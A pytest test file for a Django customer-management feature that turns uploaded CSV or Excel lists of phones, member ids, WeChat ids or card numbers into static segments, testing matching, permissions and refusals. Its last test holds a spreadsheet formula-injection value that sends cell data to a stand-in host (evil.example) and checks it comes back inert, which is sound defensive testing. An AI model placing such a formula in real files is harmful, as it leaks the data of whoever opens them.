"""Uploaded lists (step 6): a CSV or XLSX of phones, member ids, unionids, openids or card
numbers becomes a static segment frozen to exactly the members it names — within what the
uploader may see. Every refused file names the problem and writes nothing."""

from __future__ import annotations

import codecs
import csv
import io
import time
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook

from members.models import (
    Identity,
    IdentityKind,
    Member,
    Segment,
    SegmentKind,
    SegmentMember,
    SegmentSize,
)
from members.services.errors import MemberError
from members.services.segments import (
    ListColumn,
    segment_list_create,
    segment_list_match,
    segment_members,
)
from scrm.core.models import AuditEvent
from scrm.core.pii import phone_digest
from tests.conftest import Org
from tests.members.factories import MemberFactory

pytestmark = pytest.mark.django_db

URL = "/hq/segments/upload/"


@pytest.fixture
def en(client: Client) -> Client:
    client.cookies["scrm_language"] = "en"
    return client


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def people(org: Org) -> dict[str, Member]:
    """Members known by a phone identity, a unionid, an openid and a card number."""
    phone_a1: Member = MemberFactory.create(name="孙一", home_store=org.a1, phone="+8613811112222")
    Identity.objects.create(
        member=phone_a1, kind=IdentityKind.PHONE, value=phone_digest("+8613811112222")
    )
    card_a1: Member = MemberFactory.create(name="周二", home_store=org.a1)
    Identity.objects.create(member=card_a1, kind=IdentityKind.POS_CARD, value="C0001")
    Identity.objects.create(member=card_a1, kind=IdentityKind.UNIONID, value="oUnion0001")
    Identity.objects.create(
        member=card_a1, kind=IdentityKind.OPENID, app="wxminiapp", value="oOpen0001"
    )
    card_b1: Member = MemberFactory.create(name="吴三", home_store=org.b1)
    Identity.objects.create(member=card_b1, kind=IdentityKind.POS_CARD, value="C0002")
    Identity.objects.create(
        member=card_b1, kind=IdentityKind.OPENID, app="wxminiapp", value="oOpen0002"
    )
    return {"phone_a1": phone_a1, "card_a1": card_a1, "card_b1": card_b1}


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client: Client, content: bytes, filename: str = "list.csv", **fields: Any) -> Any:
    data: dict[str, Any] = {
        "name": "会员日名单",
        "description": "",
        "store": "",
        "holds": "",
        "column": "",
    }
    data.update(fields)
    data["file"] = SimpleUploadedFile(filename, content)
    return client.post(URL, data)


def frozen(segment: Segment) -> set[int]:
    return set(SegmentMember.objects.filter(segment=segment).values_list("member_id", flat=True))


def rejected_csv(client: Client, segment: Segment) -> list[list[str]]:
    response = client.get(f"/hq/segments/{segment.pk}/upload/rejected.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_nothing_written(media: Path) -> None:
    assert Segment.objects.count() == 0
    assert SegmentMember.objects.count() == 0
    assert SegmentSize.objects.count() == 0
    assert not AuditEvent.objects.filter(action__startswith="segment.").exists()
    assert not (media / "segment_uploads").exists()


def refused(response: Any) -> str:
    """The page re-rendered with the form's errors (status 200, no redirect)."""
    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors
    return " ".join(str(e) for errors in form.errors.values() for e in errors)


# --- what gets matched ------------------------------------------------------------------------


def test_hq_uploads_utf8_phones_in_any_form_counts_exact_and_report(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.hq_operator)
    content = csv_bytes(
        [
            ["手机号"],
            ["13800001234"],  # row 2: member_of_guide_a1 (phone field, no identity yet)
            ["+86 138-0000-1234"],  # row 3: the same number again
            ["138 1111 2222"],  # row 4: a phone identity
            ["0086-13811112222"],  # row 5: the same again
            ["12345"],  # row 6: not a phone
            ["13999999999"],  # row 7: nobody
            [""],  # a blank line is not a row
            [org.member_b1.reveal_phone()],  # row 9: another region's member; HQ sees everyone
            ["（+86）138 0000 1234"],  # row 10: full-width brackets, again a duplicate
        ]
    )
    response = upload(en, content, filename="名单.csv")
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert response["Location"] == f"/hq/segments/{segment.pk}/upload/"
    assert segment.kind == SegmentKind.STATIC and segment.frozen_at is not None
    assert segment.store is None and segment.created_by == org.hq_operator
    assert segment.name == "会员日名单"
    expected = {org.member_of_guide_a1.pk, people["phone_a1"].pk, org.member_b1.pk}
    assert frozen(segment) == expected
    assert segment.size == 3
    assert list(SegmentSize.objects.values_list("size", flat=True)) == [3]
    assert set(segment_members(segment).values_list("pk", flat=True)) == expected
    event = AuditEvent.objects.get(action="segment.create")
    assert event.actor == org.hq_operator and event.target_id == str(segment.pk)
    assert event.data == {
        "name": "会员日名单",
        "kind": "static",
        "source": "upload",
        "file": "名单.csv",
        "header": "手机号",
        "column": "phone",
        "store": None,
        "rows_read": 8,
        "matched": 3,
        "duplicates": 3,
        "not_found": 1,
        "invalid": 1,
        "members": 3,
    }

    page = en.get(response["Location"])
    assert page.status_code == 200
    body = page.content.decode()
    assert 'data-testid="count-rows">8<' in body
    assert 'data-testid="count-matched">3<' in body
    assert 'data-testid="count-duplicates">3<' in body
    assert 'data-testid="count-not-found">1<' in body
    assert 'data-testid="count-invalid">1<' in body
    assert rejected_csv(en, segment) == [
        ["Row", "Value", "Reason"],
        # Phones are reported masked, like every phone in a page or file.
        ["3", "*******1234", "Duplicate of row 2 (counted once)."],
        ["5", "*******2222", "Duplicate of row 4 (counted once)."],
        ["6", "12345", "Not a mobile number."],
        ["7", "*******9999", "No member you can see matches it."],
        ["10", "*******1234", "Duplicate of row 2 (counted once)."],
    ]


def test_utf8_bom_member_ids_follow_merges_and_skip_merged_away(
    en: Client, org: Org, media: Path
) -> None:
    kept = MemberFactory(home_store=org.a1)
    gone = MemberFactory(home_store=org.a1, merged_into=kept)
    en.force_login(org.hq_admin)
    content = codecs.BOM_UTF8 + csv_bytes(
        [
            ["会员ID"],
            [str(org.member_a2.pk)],
            [f"{org.member_a2.pk}"],
            [str(gone.pk)],  # merged into `kept`: the list means the person, who is `kept`
            ["abc"],
            ["99999999"],
            ["１２３４５６７８９０１"],  # full-width digits: a (missing) member id, not garbage
        ]
    )
    response = upload(en, content, filename="ids.csv")
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert frozen(segment) == {org.member_a2.pk, kept.pk}
    data = AuditEvent.objects.get(action="segment.create").data
    assert (data["rows_read"], data["matched"], data["duplicates"]) == (6, 2, 1)
    assert (data["not_found"], data["invalid"], data["header"]) == (2, 1, "会员ID")
    assert data["column"] == "member_id"
    assert rejected_csv(en, segment) == [
        ["Row", "Value", "Reason"],
        ["3", str(org.member_a2.pk), "Duplicate of row 2 (counted once)."],
        ["5", "abc", "Not a member id (a whole number)."],
        ["6", "99999999", "No member you can see matches it."],
        ["7", "１２３４５６７８９０１", "No member you can see matches it."],
    ]


def test_gbk_csv_column_detected_by_its_chinese_header(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.hq_operator)
    content = csv_bytes(
        [["姓名", "会员卡号", "备注"], ["周二", "C0001", "老客"], ["吴三", "C0002", "北京"]],
        encoding="gbk",
    )
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")  # really GBK
    response = upload(en, content, filename="cards.csv")
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert frozen(segment) == {people["card_a1"].pk, people["card_b1"].pk}
    data = AuditEvent.objects.get(action="segment.create").data
    assert (data["column"], data["header"], data["rows_read"], data["matched"]) == (
        "pos_card",
        "会员卡号",
        2,
        2,
    )
    assert rejected_csv(en, segment) == [["Row", "Value", "Reason"]]
    assert "No rejected rows." in en.get(f"/hq/segments/{segment.pk}/upload/").content.decode()


def test_xlsx_column_chosen_by_header_openids_of_any_app(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.hq_operator)
    content = xlsx_bytes(
        [
            ["手机号", "OpenID", "unionid"],
            [13800001234, "oOpen0001", "oUnion0001"],
            [None, "oOpen0002", None],
            [13811112222, "oOpenMissing", None],
            [None, None, "only a unionid"],  # the chosen cell is empty
        ]
    )
    response = upload(en, content, filename="fans.xlsx", column=" openid ", holds="openid")
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert frozen(segment) == {people["card_a1"].pk, people["card_b1"].pk}
    data = AuditEvent.objects.get(action="segment.create").data
    assert data["header"] == "OpenID" and data["column"] == "openid"
    assert (data["rows_read"], data["matched"], data["not_found"], data["invalid"]) == (4, 2, 1, 1)
    assert rejected_csv(en, segment) == [
        ["Row", "Value", "Reason"],
        ["4", "oOpenMissing", "No member you can see matches it."],
        ["5", "", "The cell is empty."],
    ]


def test_xlsx_phone_numbers_stored_as_numbers_and_unionid_column(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.hq_operator)
    response = upload(
        en,
        xlsx_bytes([["手机号", "unionid"], [13811112222.0, "oUnion0001"], [8613800001234, ""]]),
        filename="phones.xlsx",
    )
    refused_text = refused(response)  # two known columns and no choice: ask which one
    assert "Several columns could be the list: choose what the column holds" in refused_text
    assert Segment.objects.count() == 0
    response = upload(
        en,
        xlsx_bytes([["手机号", "unionid"], [13811112222.0, "oUnion0001"], [8613800001234, ""]]),
        filename="phones.xlsx",
        holds="phone",
    )
    assert response.status_code == 302
    assert frozen(Segment.objects.get()) == {people["phone_a1"].pk, org.member_of_guide_a1.pk}


def test_overlong_values_are_invalid_and_quoted_short(org: Org, people: dict[str, Member]) -> None:
    long_id = "o" * 129
    result = segment_list_match(
        rows=[(2, long_id), (3, "oUnion0001"), (4, " oUnion0001 ")],
        column=ListColumn.UNIONID,
        user=org.hq_admin,
    )
    assert (result.matched, result.duplicates, result.invalid) == (1, 1, 1)
    assert [(r.row, r.code) for r in result.rejected] == [(2, "too_long"), (4, "duplicate")]
    digits = "9" * 5000  # more digits than int() takes: invalid, not a crash
    result = segment_list_match(rows=[(2, digits)], column=ListColumn.MEMBER_ID, user=org.hq_admin)
    assert result.invalid == 1 and result.rejected[0].value == "9" * 200


def test_a_bare_phone_list_without_header_counts_its_first_line(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.hq_operator)
    response = upload(en, b"13811112222\r\n13800001234\r\n", filename="bare.csv")
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert frozen(segment) == {people["phone_a1"].pk, org.member_of_guide_a1.pk}
    data = AuditEvent.objects.get(action="segment.create").data
    assert (data["rows_read"], data["matched"], data["header"]) == (2, 2, "")


# --- scope: a store manager's list is their store's --------------------------------------------


def test_store_manager_list_holds_only_their_store_and_reveals_nobody_else(
    en: Client, org: Org, people: dict[str, Member], media: Path
) -> None:
    en.force_login(org.store_manager_a1)
    form_page = en.get(URL)
    assert form_page.status_code == 200
    assert list(form_page.context["form"].fields["store"].queryset) == [org.a1]
    assert form_page.context["form"].initial["store"] == org.a1.pk
    content = csv_bytes(
        [
            ["会员卡号"],
            ["C0001"],  # a1's member
            ["C0002"],  # b1's member: reported exactly like a card nobody holds
            ["C9999"],
        ]
    )
    response = upload(en, content, store=str(org.a1.pk))
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert segment.store == org.a1 and segment.created_by == org.store_manager_a1
    assert frozen(segment) == {people["card_a1"].pk}
    assert rejected_csv(en, segment) == [
        ["Row", "Value", "Reason"],
        ["3", "C0002", "No member you can see matches it."],
        ["4", "C9999", "No member you can see matches it."],
    ]
    page = en.get(f"/hq/segments/{segment.pk}/upload/").content.decode()
    assert people["card_b1"].name not in page and "吴三" not in page


def test_store_manager_member_ids_of_other_stores_are_not_found(
    en: Client, org: Org, media: Path
) -> None:
    en.force_login(org.store_manager_a1)
    ids = [org.member_a1_unassigned.pk, org.member_a2.pk, org.member_b1.pk]
    content = csv_bytes([["会员ID"], *[[str(pk)] for pk in ids]])
    response = upload(en, content, store=str(org.a1.pk))
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert frozen(segment) == {org.member_a1_unassigned.pk}
    data = AuditEvent.objects.get(action="segment.create").data
    assert (data["matched"], data["not_found"], data["store"]) == (1, 2, org.a1.pk)


def test_store_manager_must_choose_their_own_store_nothing_written(
    en: Client, org: Org, media: Path
) -> None:
    en.force_login(org.store_manager_a1)
    content = csv_bytes([["会员ID"], [str(org.member_a1_unassigned.pk)]])
    text = refused(upload(en, content, store=""))
    assert "This field is required." in text
    text = refused(upload(en, content, store=str(org.b1.pk)))
    assert "Select a valid choice." in text
    assert_nothing_written(media)


def test_region_manager_store_segment_and_hq_store_segment_keep_to_that_store(
    en: Client, org: Org, media: Path
) -> None:
    content = csv_bytes(
        [["会员ID"], *[[str(m.pk)] for m in (org.member_a1_unassigned, org.member_a2)]]
    )
    en.force_login(org.region_manager_a)
    assert upload(en, content, store=str(org.a2.pk), name="杭州").status_code == 302
    en.force_login(org.hq_admin)
    assert upload(en, content, store=str(org.a1.pk), name="上海").status_code == 302
    assert frozen(Segment.objects.get(name="杭州")) == {org.member_a2.pk}
    assert frozen(Segment.objects.get(name="上海")) == {org.member_a1_unassigned.pk}


def test_service_refuses_a_store_the_actor_does_not_manage(org: Org, media: Path) -> None:
    rows = [(2, str(org.member_b1.pk))]
    with pytest.raises(MemberError) as refusal:
        segment_list_create(
            name="x", column="member_id", rows=rows, actor=org.store_manager_a1, store=org.b1
        )
    assert refusal.value.code == "store_not_yours"
    with pytest.raises(MemberError) as refusal:
        segment_list_create(name="x", column="member_id", rows=rows, actor=org.store_manager_a1)
    assert refusal.value.code == "store_missing"
    assert_nothing_written(media)


def test_upload_report_is_for_head_office_and_the_uploader_only(
    client: Client, org: Org, media: Path
) -> None:
    client.force_login(org.hq_operator)
    content = csv_bytes([["会员ID"], [str(org.member_a1_unassigned.pk)], ["42424242"]])
    assert upload(client, content).status_code == 302
    segment = Segment.objects.get()
    for url in (
        f"/hq/segments/{segment.pk}/upload/",
        f"/hq/segments/{segment.pk}/upload/rejected.csv",
    ):
        client.force_login(org.hq_admin)
        assert client.get(url).status_code == 200
        client.force_login(org.store_manager_a1)  # sees the HQ segment, not HQ's file
        assert client.get(url).status_code == 404
        client.force_login(org.guide_a1)
        assert client.get(url).status_code == 403
    client.force_login(org.hq_admin)
    plain = Segment.objects.create(name="规则", rules={"op": "and", "rules": []})
    assert client.get(f"/hq/segments/{plain.pk}/upload/").status_code == 404


# --- refusals: a clear message, nothing written ---------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "fields", "message"),
    [
        (b"", "empty.csv", {}, "The file is empty (0 bytes)."),
        (b"\xef\xbb\xbf\r\n\r\n", "blank.csv", {}, "The first row must hold the column headers."),
        (b"phone\n", "header.csv", {}, "The file has column headers but no data rows."),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
            "photo.csv",
            {},
            "The file is not a CSV text file (it contains binary data).",
        ),
        (
            b"phone\n13800001234\n\x81\x20abc\n",
            "latin.csv",
            {},
            "The file is neither UTF-8 nor GBK/GB18030 text.",
        ),
        (b"phone\n13800001234\n", "list.xlsx", {}, "is named .xlsx but is not an Excel workbook"),
        (b"PK\x03\x04garbage", "zip.csv", {}, "The Excel file cannot be read"),
        (
            "手机号,姓名\n13800001234,王\n".encode(),
            "list.csv",
            {"column": "会员卡号"},
            "The file has no column “会员卡号”. Its columns are: 手机号, 姓名.",
        ),
        (
            "姓名,备注\n王,x\n".encode(),
            "list.csv",
            {},
            "No column header says what it holds (phone, member id, unionid, openid or member "
            "card number): type the header of the column to use. The file's columns are: 姓名, "
            "备注.",
        ),
        (
            "手机号,姓名\n13800001234,王\n".encode(),
            "list.csv",
            {"holds": "unionid"},
            "No column header says it holds WeChat unionid",
        ),
        (
            "客户\nabc\n".encode(),
            "list.csv",
            {},
            "The header “客户” does not say what the column holds",
        ),
        (
            b"phone\n13800001234\n",
            "list.csv",
            {"name": ""},
            "This field is required.",
        ),
    ],
    ids=[
        "zero-bytes",
        "blank-lines",
        "header-only",
        "binary-renamed-csv",
        "undecodable",
        "xlsx-not-workbook",
        "zip-renamed-csv",
        "missing-chosen-column",
        "no-known-column",
        "no-column-of-chosen-kind",
        "unknown-single-header",
        "no-name",
    ],
)
def test_bad_files_are_refused_with_a_clear_message_and_nothing_written(
    en: Client,
    org: Org,
    media: Path,
    content: bytes,
    name: str,
    fields: dict[str, str],
    message: str,
) -> None:
    en.force_login(org.hq_operator)
    text = refused(upload(en, content, filename=name, **fields))
    assert message in text
    assert_nothing_written(media)


def test_over_the_size_limit_is_refused(en: Client, org: Org, settings: Any, media: Path) -> None:
    settings.SEGMENT_LIST_MAX_BYTES = 1024 * 1024
    en.force_login(org.hq_operator)
    content = b"phone\n" + b"13800001234\n" * 100_000  # 1.2 MB
    text = refused(upload(en, content))
    assert "The file is 1.1 MB; the limit is 1 MB." in text
    assert_nothing_written(media)


def test_over_the_row_limit_is_refused(en: Client, org: Org, settings: Any, media: Path) -> None:
    settings.SEGMENT_LIST_MAX_ROWS = 3
    en.force_login(org.hq_operator)
    ok = csv_bytes([["phone"], ["13800001234"], ["13800001235"], ["13800001236"]])
    too_many = csv_bytes([["phone"], *[[f"1380000{n:04d}"] for n in range(4)]])
    text = refused(upload(en, too_many))
    assert "The file has more than 3 rows: split it into smaller lists." in text
    assert_nothing_written(media)
    assert upload(en, ok).status_code == 302


def test_the_default_limits_are_20_mb_and_200000_rows() -> None:
    from members.forms_segments_upload import list_max_bytes, list_max_rows

    assert list_max_bytes() == 20 * 1024 * 1024
    assert list_max_rows() == 200_000


def test_nothing_matched_shows_the_counts_and_writes_nothing(
    en: Client, org: Org, media: Path
) -> None:
    en.force_login(org.store_manager_a1)
    content = csv_bytes(
        [["手机号"], [org.member_b1.reveal_phone()], ["13999999999"], ["13999999999"], ["bad"]]
    )
    response = upload(en, content, store=str(org.a1.pk))
    text = refused(response)
    assert "No row of the file matched a member you can see, so no segment was created." in text
    body = response.content.decode()
    assert 'data-testid="count-rows">4<' in body
    assert 'data-testid="count-matched">0<' in body
    assert 'data-testid="count-duplicates">1<' in body
    assert 'data-testid="count-not-found">2<' in body
    assert 'data-testid="count-invalid">1<' in body
    unmatched = response.context["unmatched"]
    assert [(r.row, r.value, r.code) for r in unmatched.rejected] == [
        (2, org.member_b1.masked_phone, "not_found"),
        (3, "*******9999", "not_found"),
        (4, "*******9999", "duplicate"),
        (5, "bad", "invalid_phone"),
    ]
    assert_nothing_written(media)


# --- the broadcast composer offers it --------------------------------------------------------


def test_uploaded_segment_is_an_audience_in_the_broadcast_composer(
    en: Client, org: Org, media: Path
) -> None:
    en.force_login(org.store_manager_a1)
    content = csv_bytes([["会员ID"], [str(org.member_a1_unassigned.pk)]])
    assert upload(en, content, store=str(org.a1.pk), name="上传名单A1").status_code == 302
    segment = Segment.objects.get()
    for user in (org.store_manager_a1, org.hq_operator):
        en.force_login(user)
        page = en.get("/hq/broadcasts/new/")
        assert page.status_code == 200
        assert segment in page.context["form"].fields["segment"].queryset
        assert f'<option value="{segment.pk}">上传名单A1</option>' in page.content.decode()


# --- the pages ---------------------------------------------------------------------------------


def test_list_page_links_to_the_upload_and_the_form_renders(en: Client, org: Org) -> None:
    en.force_login(org.hq_operator)
    assert 'href="/hq/segments/upload/"' in en.get("/hq/segments/").content.decode()
    page = en.get(URL)
    assert page.status_code == 200
    body = page.content.decode()
    assert 'enctype="multipart/form-data"' in body and 'name="file"' in body
    en.force_login(org.guide_a1)
    assert en.get(URL).status_code == 403
    assert upload(en, b"phone\n13800001234\n").status_code == 403


# --- set-based: the number of queries does not grow with the list ----------------------------


def test_matching_is_set_based(
    org: Org, people: dict[str, Member], django_assert_num_queries: Any
) -> None:
    """One row or twenty thousand: the same statements (savepoint, temp table, COPY,
    ANALYZE, one matching SELECT, truncate, release)."""
    small = [(2, "13811112222")]
    big = [(n + 2, f"139{n:08d}") for n in range(20_000)] + [(20_002, "13811112222")]
    with django_assert_num_queries(8):
        assert segment_list_match(rows=small, column=ListColumn.PHONE, user=org.hq_admin).matched
    with django_assert_num_queries(8):
        result = segment_list_match(rows=big, column=ListColumn.PHONE, user=org.hq_admin)
    assert (result.matched, result.not_found, result.member_ids) == (
        1,
        20_000,
        [people["phone_a1"].pk],
    )


def test_200000_rows_take_seconds(en: Client, org: Org, media: Path) -> None:
    phones = [f"+86137{n:08d}" for n in range(2_000)]
    members = Member.objects.bulk_create(
        [
            MemberFactory.build(name=f"m{n}", phone=phone, home_store=org.a1)
            for n, phone in enumerate(phones)
        ]
    )
    Identity.objects.bulk_create(
        [
            Identity(member=m, kind=IdentityKind.PHONE, value=phone_digest(phone))
            for m, phone in zip(members, phones, strict=True)
        ]
    )
    lines = ["手机号", *[f"137{n:08d}" for n in range(200_000 - 1)], "13700000000"]
    content = ("\n".join(lines) + "\n").encode()
    en.force_login(org.hq_operator)
    started = time.monotonic()
    response = upload(en, content)
    elapsed = time.monotonic() - started
    assert response.status_code == 302
    data = AuditEvent.objects.get(action="segment.create").data
    assert (data["rows_read"], data["matched"], data["duplicates"]) == (200_000, 2_000, 1)
    assert data["not_found"] == 200_000 - 2_000 - 1
    assert SegmentMember.objects.count() == 2_000
    assert elapsed < 30, elapsed


def test_an_uploaded_list_is_not_refrozen_or_edited_as_rules(org: Org, client: Client) -> None:
    from members.models import Segment, SegmentMember

    segment = Segment.objects.create(
        name="名单",
        kind="static",
        rules={"source": "upload", "file": "a.csv", "column": "phone"},
        frozen_at=timezone.now(),
    )
    SegmentMember.objects.create(segment=segment, member=org.member_b1)
    client.force_login(org.hq_operator)
    page = client.get(f"/hq/segments/{segment.pk}/").content.decode()
    assert 'data-testid="freeze"' not in page
    assert f"/hq/segments/{segment.pk}/edit/" not in page
    response = client.post(f"/hq/segments/{segment.pk}/freeze/")
    assert response.status_code == 302
    assert client.get(f"/hq/segments/{segment.pk}/edit/").status_code == 302
    segment.refresh_from_db()
    assert segment.rules["source"] == "upload"
    assert list(
        SegmentMember.objects.filter(segment=segment).values_list("member_id", flat=True)
    ) == [org.member_b1.pk]


def test_a_formula_in_the_file_comes_back_inert_in_the_rejected_rows(
    org: Org, client: Client
) -> None:
    client.force_login(org.hq_operator)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    content = csv_bytes([["手机号"], [org.member_b1.reveal_phone()], [formula], ["@SUM(1+1)"]])
    assert upload(client, content).status_code == 302
    segment = Segment.objects.get()
    values = [row[1] for row in rejected_csv(client, segment)[1:]]
    assert values == ["'" + formula, "'@SUM(1+1)"]
